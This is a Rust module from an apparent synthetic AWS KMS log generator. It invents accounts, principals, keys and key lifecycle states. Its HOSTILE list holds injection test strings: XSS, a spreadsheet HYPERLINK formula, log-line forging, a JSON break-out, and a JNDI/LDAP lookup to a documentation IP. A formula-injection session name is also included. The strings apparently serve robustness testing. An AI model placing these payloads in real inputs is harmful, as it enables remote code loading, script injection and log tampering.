//! The organisation: accounts, the principals in them, and the keys with their states.
//!
//! Account ids and names follow from their places, so that a configuration can be written before the generator runs; key
//! ids follow from the seed. The generator is consistent with itself: a key that it disabled refuses calls until it is
//! enabled. At most a fifth of the keys are out of use at once and a
//! twentieth deleted, so that a long run does not end in silence.

use dormouse_model::{AccountId, EventTime, KeyArn, LifecycleState, Region};

use super::catalogue::KeyClass;
use super::json::object_text;
use super::{Popularity, Shape};
use crate::uuid::Uuid;

/// One invented key.
#[derive(Clone, Debug)]
pub struct Key {
    /// Which key.
    pub arn: KeyArn,
    /// The ARN as text.
    pub arn_text: Box<str>,
    /// What it is for.
    pub class: KeyClass,
    /// Whether AWS manages it: used by services, never changed.
    pub aws_managed: bool,
    /// Its state after the records so far.
    pub state: LifecycleState,
    /// The aliases (`alias/…`) that point at it after the records so far.
    pub aliases: Vec<Box<str>>,
    /// When it was made.
    pub created: EventTime,
}

/// A caller. Its identity is ready as JSON.
pub(super) struct Principal {
    pub(super) identity: String,
    /// The ARN that an error message names.
    pub(super) arn: String,
    /// How the owner of a foreign key sees it.
    pub(super) foreign_identity: String,
    pub(super) source_ip: &'static str,
    pub(super) user_agent: &'static str,
    /// Calls through a VPC endpoint and over TLS are shown with it; calls by services are not.
    pub(super) is_service: bool,
}

pub(super) struct Account {
    pub(super) id: AccountId,
    pub(super) principals: Vec<Principal>,
}

/// Keys of one class, to be chosen by popularity.
struct Chooser {
    members: Vec<usize>,
    /// The sum of the weights up to and including each member.
    sums: Vec<f64>,
}

pub(super) struct World {
    pub(super) accounts: Vec<Account>,
    pub(super) regions: Vec<Region>,
    pub(super) keys: Vec<Key>,
    choosers: Vec<Chooser>,
    popularity: Popularity,
    first_keys: usize,
    /// Keys made by records. Also chosen for calls now and then.
    young: Vec<usize>,
    pub(super) disabled: Vec<usize>,
    pub(super) pending: Vec<usize>,
    /// Multi-Region keys that were replicated, each with its replica.
    pub(super) replicas: Vec<(usize, usize)>,
    deleted: usize,
    aliases_made: usize,
}

/// The account at this place: first the three of AWS's documentation, then invented ones.
pub(super) fn account_at(place: usize) -> AccountId {
    const FIRST: [u64; 3] = [111_122_223_333, 444_455_556_666, 777_788_889_999];
    let invented = || 200_000_000_000 + (place as u64 * 7_919) % 700_000_000_000;
    let number = FIRST.get(place).copied().unwrap_or_else(invented);
    // Zero is an account id as well; the numbers above are all below the limit.
    AccountId::from_number(number).or_else(|| AccountId::from_number(0)).unwrap_or_else(|| account_at(0))
}

impl World {
    pub(super) fn new(random: &mut fastrand::Rng, shape: &Shape) -> Self {
        let accounts = (0..shape.accounts.max(1)).map(|place| Account::new(random, place, shape)).collect();
        let mut world = Self {
            accounts,
            regions: shape.regions.clone(),
            keys: Vec::with_capacity(shape.keys),
            choosers: Vec::new(),
            popularity: shape.popularity,
            first_keys: shape.keys.max(1),
            young: Vec::new(),
            disabled: Vec::new(),
            pending: Vec::new(),
            replicas: Vec::new(),
            deleted: 0,
            aliases_made: 0,
        };
        if world.regions.is_empty() {
            world.regions.extend("eu-west-1".parse::<Region>());
        }
        for place in 0..world.first_keys {
            world.add_first_key(random, place, shape.start);
        }
        world.choosers = KeyClass::ALL
            .into_iter()
            .map(|class| Chooser::new(&world.keys, class, shape.popularity))
            .collect();
        world
    }

    fn add_first_key(&mut self, random: &mut fastrand::Rng, place: usize, start: EventTime) {
        let class = class_at(place);
        let aws_managed = class == KeyClass::Symmetric && place % 12 == 5;
        let account = self.accounts[place % self.accounts.len()].id;
        let region = self.regions[(place / self.accounts.len()) % self.regions.len()];
        let created = start.minus(random.u32(86_400..3 * 365 * 86_400));
        let Some(key) = self.add_key(random, (account, region), class, place % 10 == 7, created) else {
            return;
        };
        self.keys[key].aws_managed = aws_managed;
        if aws_managed {
            self.keys[key].aliases.push("alias/aws/ebs".into());
        } else if place.is_multiple_of(3) {
            self.keys[key].aliases.push(format!("alias/app-{place}").into());
        }
    }

    /// Adds a key with a new id.
    pub(super) fn add_key(
        &mut self,
        random: &mut fastrand::Rng,
        (account, region): (AccountId, Region),
        class: KeyClass,
        multi_region: bool,
        created: EventTime,
    ) -> Option<usize> {
        let bits = random.u128(..);
        let id = if multi_region { format!("mrk-{bits:032x}") } else { Uuid::from_random(bits).to_string() };
        self.add_key_named(account, region, &id, class, created)
    }

    fn add_key_named(
        &mut self,
        account: AccountId,
        region: Region,
        id: &str,
        class: KeyClass,
        created: EventTime,
    ) -> Option<usize> {
        let arn = KeyArn::from_parts(region, account, id).ok()?;
        self.keys.push(Key {
            arn,
            arn_text: arn.to_string().into(),
            class,
            aws_managed: false,
            state: LifecycleState::Enabled,
            aliases: Vec::new(),
            created,
        });
        Some(self.keys.len() - 1)
    }

    /// Whether records may still make keys.
    pub(super) fn may_grow(&self) -> bool {
        self.young.len() < self.first_keys.max(16)
    }

    /// Adds a key that a record makes.
    pub(super) fn add_young_key(
        &mut self,
        random: &mut fastrand::Rng,
        place: (AccountId, Region),
        class: KeyClass,
        multi_region: bool,
        now: EventTime,
    ) -> Option<usize> {
        let key = self.add_key(random, place, class, multi_region, now)?;
        self.young.push(key);
        Some(key)
    }

    /// Adds a replica of a multi-Region key in another Region; `None` if it is in all of them.
    pub(super) fn add_replica(&mut self, key: usize, now: EventTime) -> Option<usize> {
        let (arn, class) = (self.keys[key].arn, self.keys[key].class);
        let id = arn.id();
        let taken = |region: Region| {
            region == arn.region()
                || self.replicas.iter().flat_map(|&(key, replica)| [key, replica]).any(|other| {
                    let other = self.keys[other].arn;
                    other.region() == region && other.id() == id
                })
        };
        let region = self.regions.iter().copied().find(|&region| !taken(region))?;
        let replica = self.add_key_named(arn.account(), region, &id, class, now)?;
        self.young.push(replica);
        self.replicas.push((key, replica));
        Some(replica)
    }

    /// A key of this class by popularity, in any state; a young one now and then.
    pub(super) fn choose(&self, random: &mut fastrand::Rng, class: KeyClass) -> usize {
        if !self.young.is_empty() && random.u8(..) < 8 {
            let key = self.young[random.usize(..self.young.len())];
            if self.keys[key].class == class {
                return key;
            }
        }
        let chooser = &self.choosers[class as usize];
        chooser
            .choose(random, self.popularity)
            .unwrap_or_else(|| random.usize(..self.first_keys.min(self.keys.len())))
    }

    /// Any customer managed key that meets the condition, each with the same chance; some key if none is found soon.
    pub(super) fn choose_customer(
        &self,
        random: &mut fastrand::Rng,
        condition: impl Fn(&Key) -> bool,
    ) -> usize {
        let mut customer = 0;
        for _ in 0..64 {
            let key = random.usize(..self.keys.len());
            if self.keys[key].aws_managed {
                continue;
            }
            if condition(&self.keys[key]) {
                return key;
            }
            customer = key;
        }
        customer
    }

    /// Whether one more key may go out of use.
    pub(super) fn may_silence(&self) -> bool {
        self.disabled.len() + self.pending.len() < (self.first_keys / 5).max(1)
    }

    /// Whether one more key may be deleted.
    pub(super) fn may_delete(&self) -> bool {
        self.deleted < (self.first_keys / 20).max(1)
    }

    /// Moves a key to another state.
    pub(super) fn set_state(&mut self, key: usize, state: LifecycleState) {
        self.disabled.retain(|&other| other != key);
        self.pending.retain(|&other| other != key);
        match state {
            LifecycleState::Disabled => self.disabled.push(key),
            LifecycleState::PendingDeletion => self.pending.push(key),
            LifecycleState::Deleted => self.deleted += 1,
            _ => {}
        }
        self.keys[key].state = state;
    }

    /// Another enabled symmetric key of the same Region, in the same account or in another one.
    pub(super) fn neighbour(
        &self,
        random: &mut fastrand::Rng,
        key: usize,
        same_account: bool,
    ) -> Option<usize> {
        let arn = self.keys[key].arn;
        let fits = |other: &Key| {
            other.class == KeyClass::Symmetric
                && !other.aws_managed
                && other.state == LifecycleState::Enabled
                && other.arn != arn
                && other.arn.region() == arn.region()
                && (other.arn.account() == arn.account()) == same_account
        };
        // The first keys go round the accounts, then round the Regions.
        let stride = if same_account { self.accounts.len() * self.regions.len() } else { 1 };
        let first = random.usize(1..8);
        let candidates =
            (first..first + 24).map(|step| (key + step * stride) % self.first_keys.min(self.keys.len()));
        candidates.into_iter().find(|&other| fits(&self.keys[other]))
    }

    /// A name that no alias has yet.
    pub(super) fn new_alias(&mut self) -> String {
        self.aliases_made += 1;
        format!("alias/team-{}/store", self.aliases_made)
    }

    /// The place of an account in the list.
    pub(super) fn account_of(&self, key: usize) -> usize {
        let id = self.keys[key].arn.account();
        // The first keys go round the accounts; only young ones have to be looked for.
        let guess = key % self.accounts.len();
        if self.accounts[guess].id == id {
            return guess;
        }
        self.accounts.iter().position(|account| account.id == id).unwrap_or(0)
    }
}

impl Chooser {
    fn new(keys: &[Key], class: KeyClass, popularity: Popularity) -> Self {
        let members: Vec<usize> = (0..keys.len()).filter(|&key| keys[key].class == class).collect();
        let Popularity::Zipf(exponent) = popularity else {
            return Self { members, sums: Vec::new() };
        };
        let mut sum = 0.0;
        let mut sums = Vec::with_capacity(members.len());
        let mut rank = 0.0_f64;
        for _ in &members {
            rank += 1.0;
            sum += rank.powf(-exponent);
            sums.push(sum);
        }
        Self { members, sums }
    }

    fn choose(&self, random: &mut fastrand::Rng, popularity: Popularity) -> Option<usize> {
        if self.members.is_empty() {
            return None;
        }
        if popularity == Popularity::Uniform {
            return Some(self.members[random.usize(..self.members.len())]);
        }
        let point = random.f64() * self.sums.last()?;
        let place = self.sums.partition_point(|&sum| sum <= point).min(self.members.len() - 1);
        Some(self.members[place])
    }
}

/// Most keys are symmetric; seven keys are enough to have every class.
fn class_at(place: usize) -> KeyClass {
    match place % 20 {
        1 | 11 => KeyClass::Signing,
        2 => KeyClass::Mac,
        3 => KeyClass::Agreement,
        4 => KeyClass::Encapsulation,
        6 => KeyClass::Asymmetric,
        _ => KeyClass::Symmetric,
    }
}

const USER_AGENTS: [&str; 4] = [
    "aws-sdk-java/2.29.23 md/io#sync md/http#Apache ua/2.1 os/Linux#6.1.115 lang/java#21.0.5 md/OpenJDK_64-Bit_Server_VM m/D,E",
    "Boto3/1.40.11 md/Botocore#1.40.11 ua/2.1 os/linux#6.1.147 md/arch#aarch64 lang/python#3.13.7 cfg/retry-mode#standard",
    "aws-sdk-go-v2/1.36.3 ua/2.1 os/linux lang/go#1.25.1 md/GOOS#linux md/GOARCH#amd64 api/kms#1.38.3 m/E,e",
    "aws-cli/2.31.2 md/awscrt#0.27.6 ua/2.1 os/linux#6.8.0 md/arch#x86_64 lang/python#3.13.7 cfg/retry-mode#standard exec-env/CloudShell",
];

/// What an attacker could have the log say.
pub(super) const HOSTILE: [&str; 6] = [
    "<script>alert('kms')</script>",
    "=HYPERLINK(\"http://192.0.2.1\",\"open\")",
    "two\nlines \r\n level=error msg=\"forged\"",
    "\u{202e}gnp.exe \u{0} nul",
    "\"}],\"Records\":[{\"eventName\":\"Decrypt\"",
    "{{7*7}} ${jndi:ldap://192.0.2.1/a} %n%n",
];

/// Access key and principal ids: a prefix and characters that look the part.
fn unique_id(random: &mut fastrand::Rng, prefix: &str) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let length = if matches!(prefix, "AKIA" | "ASIA") { 16 } else { 17 };
    let tail = (0..length).map(|_| char::from(ALPHABET[random.usize(..ALPHABET.len())]));
    prefix.chars().chain(tail).collect()
}

/// So many principals of each account, the first ones, are people's and programs' own roles.
pub(super) const OPERATORS: usize = 4;

impl Account {
    fn new(random: &mut fastrand::Rng, place: usize, shape: &Shape) -> Self {
        let id = account_at(place);
        let session_start = shape.start.minus(1_800);
        let mut principals = Vec::new();
        for role in ["payments-api", "orders-worker", "AWSReservedSSO_Engineer_0a1b2c3d4e5f6071", "backup"] {
            let session = match role {
                "orders-worker" => format!("i-{:017x}", random.u64(..) >> 4),
                "payments-api" => format!("botocore-session-{}", random.u32(1_700_000_000..1_800_000_000)),
                "backup" if shape.hostile => "=1+1,@SUM(A1)-_".to_owned(),
                _ => "mona.keeper@example.com".to_owned(),
            };
            principals.push(assumed_role(random, id, role, &session, session_start, None));
        }
        principals.push(assumed_role(
            random,
            id,
            "secrets-reader",
            "lambda-refresh",
            session_start,
            Some("secretsmanager.amazonaws.com"),
        ));
        principals.push(assumed_role(
            random,
            id,
            "import-job",
            "nightly",
            session_start,
            Some("AWS Internal"),
        ));
        principals.push(infrastructure(random, id, session_start));
        principals.push(service(id, "cloudtrail.amazonaws.com"));
        principals.push(service(id, "dynamodb.amazonaws.com"));
        principals.push(iam_user(random, id));
        principals.push(federated_user(random, id, session_start));
        principals.push(web_identity(id));
        principals.push(root(random, id, session_start));
        if shape.hostile {
            let mut hostile = iam_user(random, id);
            hostile.user_agent = HOSTILE[0];
            principals.push(hostile);
        }
        Self { id, principals }
    }
}

fn assumed_role(
    random: &mut fastrand::Rng,
    account: AccountId,
    role: &str,
    session: &str,
    session_start: EventTime,
    invoked_by: Option<&'static str>,
) -> Principal {
    let (role_id, access_key) = (unique_id(random, "AROA"), unique_id(random, "ASIA"));
    let arn = format!("arn:aws:sts::{account}:assumed-role/{role}/{session}");
    let identity = object_text(|identity| {
        identity.text("type", "AssumedRole");
        identity.shown("principalId", format_args!("{role_id}:{session}"));
        identity.text("arn", &arn);
        identity.shown("accountId", account);
        identity.text("accessKeyId", &access_key);
        identity.object("sessionContext", |context| {
            context.object("sessionIssuer", |issuer| {
                issuer.text("type", "Role");
                issuer.text("principalId", &role_id);
                issuer.shown("arn", format_args!("arn:aws:iam::{account}:role/{role}"));
                issuer.shown("accountId", account);
                issuer.text("userName", role);
            });
            context.object("attributes", |attributes| {
                attributes.shown("creationDate", session_start);
                attributes.text("mfaAuthenticated", "false");
            });
        });
        if let Some(service) = invoked_by {
            identity.text("invokedBy", service);
        }
    });
    let foreign_identity = foreign(account, &format!("{role_id}:{session}"), invoked_by);
    let (source_ip, user_agent) = origin(random, invoked_by);
    Principal { identity, arn, foreign_identity, source_ip, user_agent, is_service: invoked_by.is_some() }
}

/// A caller as the owner of another account's key sees it.
fn foreign(account: AccountId, principal_id: &str, invoked_by: Option<&str>) -> String {
    object_text(|identity| {
        identity.text("type", "AWSAccount");
        identity.text("principalId", principal_id);
        identity.shown("accountId", account);
        if let Some(service) = invoked_by {
            identity.text("invokedBy", service);
        }
    })
}

fn origin(random: &mut fastrand::Rng, invoked_by: Option<&'static str>) -> (&'static str, &'static str) {
    if let Some(service) = invoked_by {
        return (service, service);
    }
    let addresses = ["192.0.2.44", "198.51.100.7", "203.0.113.201", "10.0.4.18", "2001:db8::17"];
    (addresses[random.usize(..addresses.len())], USER_AGENTS[random.usize(..USER_AGENTS.len())])
}

/// EC2 itself, which uses a volume's key through a grant.
fn infrastructure(random: &mut fastrand::Rng, account: AccountId, session_start: EventTime) -> Principal {
    let instance = format!("i-{:017x}", random.u64(..) >> 4);
    let name = "aws:ec2-infrastructure";
    let arn = format!("arn:aws:sts::{account}:assumed-role/{name}/{instance}");
    let identity = object_text(|identity| {
        identity.text("type", "AssumedRole");
        identity.shown("principalId", format_args!("{account}:{name}:{instance}"));
        identity.text("arn", &arn);
        identity.shown("accountId", account);
        identity.text("accessKeyId", &unique_id(random, "ASIA"));
        identity.object("sessionContext", |context| {
            context.object("sessionIssuer", |issuer| {
                issuer.text("type", "Role");
                issuer.shown("principalId", format_args!("{account}:{name}"));
                issuer.shown("arn", format_args!("arn:aws:iam::{account}:role/{name}"));
                issuer.shown("accountId", account);
                issuer.text("userName", name);
            });
            context.object("attributes", |attributes| {
                attributes.shown("creationDate", session_start);
                attributes.text("mfaAuthenticated", "false");
            });
            context.text("ec2RoleDelivery", "2.0");
        });
        identity.text("invokedBy", "AWS Internal");
    });
    let foreign_identity = foreign(account, &format!("{account}:{name}:{instance}"), Some("AWS Internal"));
    Principal {
        identity,
        arn,
        foreign_identity,
        source_ip: "AWS Internal",
        user_agent: "AWS Internal",
        is_service: true,
    }
}

fn service(account: AccountId, name: &'static str) -> Principal {
    let identity = object_text(|identity| {
        identity.text("type", "AWSService");
        identity.text("invokedBy", name);
    });
    let foreign_identity = identity.clone();
    let arn = format!("arn:aws:iam::{account}:root");
    Principal { identity, arn, foreign_identity, source_ip: name, user_agent: name, is_service: true }
}

fn iam_user(random: &mut fastrand::Rng, account: AccountId) -> Principal {
    let user_id = unique_id(random, "AIDA");
    let arn = format!("arn:aws:iam::{account}:user/ops/alice");
    let identity = object_text(|identity| {
        identity.text("type", "IAMUser");
        identity.text("principalId", &user_id);
        identity.text("arn", &arn);
        identity.shown("accountId", account);
        identity.text("accessKeyId", &unique_id(random, "AKIA"));
        identity.text("userName", "alice");
    });
    let (source_ip, user_agent) = origin(random, None);
    Principal {
        identity,
        arn,
        foreign_identity: foreign(account, &user_id, None),
        source_ip,
        user_agent,
        is_service: false,
    }
}

fn federated_user(random: &mut fastrand::Rng, account: AccountId, session_start: EventTime) -> Principal {
    let arn = format!("arn:aws:sts::{account}:federated-user/reporting");
    let identity = object_text(|identity| {
        identity.text("type", "FederatedUser");
        identity.shown("principalId", format_args!("{account}:reporting"));
        identity.text("arn", &arn);
        identity.shown("accountId", account);
        identity.text("accessKeyId", &unique_id(random, "ASIA"));
        identity.object("sessionContext", |context| {
            context.object("sessionIssuer", |issuer| {
                issuer.text("type", "IAMUser");
                issuer.text("principalId", &unique_id(random, "AIDA"));
                issuer.shown("arn", format_args!("arn:aws:iam::{account}:user/broker"));
                issuer.shown("accountId", account);
                issuer.text("userName", "broker");
            });
            context.object("attributes", |attributes| {
                attributes.shown("creationDate", session_start);
                attributes.text("mfaAuthenticated", "false");
            });
        });
    });
    let (source_ip, user_agent) = origin(random, None);
    let foreign_identity = foreign(account, &format!("{account}:reporting"), None);
    Principal { identity, arn, foreign_identity, source_ip, user_agent, is_service: false }
}

fn web_identity(account: AccountId) -> Principal {
    let identity = object_text(|identity| {
        identity.text("type", "WebIdentityUser");
        identity.text("principalId", "accounts.example.com:app-17.example:user-4711");
        identity.text("userName", "user-4711");
        identity.text("identityProvider", "accounts.example.com");
    });
    let foreign_identity = identity.clone();
    let arn = format!("arn:aws:sts::{account}:assumed-role/web/user-4711");
    Principal {
        identity,
        arn,
        foreign_identity,
        source_ip: "203.0.113.9",
        user_agent: USER_AGENTS[0],
        is_service: false,
    }
}

fn root(random: &mut fastrand::Rng, account: AccountId, session_start: EventTime) -> Principal {
    let arn = format!("arn:aws:iam::{account}:root");
    let identity = object_text(|identity| {
        identity.text("type", "Root");
        identity.shown("principalId", account);
        identity.text("arn", &arn);
        identity.shown("accountId", account);
        identity.text("accessKeyId", &unique_id(random, "ASIA"));
        identity.object("sessionContext", |context| {
            context.object("attributes", |attributes| {
                attributes.shown("creationDate", session_start);
                attributes.text("mfaAuthenticated", "true");
            });
        });
    });
    let foreign_identity = foreign(account, &account.to_string(), None);
    Principal {
        identity,
        arn,
        foreign_identity,
        source_ip: "198.51.100.250",
        user_agent: USER_AGENTS[3],
        is_service: false,
    }
}
